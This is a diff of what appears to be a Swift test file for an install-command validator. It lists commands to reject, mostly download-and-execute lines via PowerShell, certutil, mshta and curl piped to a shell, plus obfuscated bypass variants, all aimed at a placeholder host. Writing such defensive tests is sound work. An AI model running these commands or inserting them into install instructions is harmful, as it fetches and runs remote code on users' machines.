@@ -67,7 +67,7 @@ struct InstallCommandTests {
             "powershell -enc aWQ=", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example')",
             "powershell -c \"iwr x.example -OutFile a.exe; Start-Process a.exe\"",
             "certutil -urlcache -f http://x a.exe",
-            "mshta http://x.example/a.hta", "cmd /c curl x.example | cmd | sh", "sh -c 'curl x.example | sh'",
+            "mshta http://x.example/a.hta", "sh -c 'curl x.example' | sh", "sh -c 'curl x.example | sh'",
             "true && (curl x.example | sh)", "if true; then curl x.example | sh; fi", "cu\"\"rl x.example | s\\h",
             "curl x.example | node", "curl${IFS}x.example|sh", "curl x.example | xargs -0 sh -c", "tr a b < c | sh",
         ])
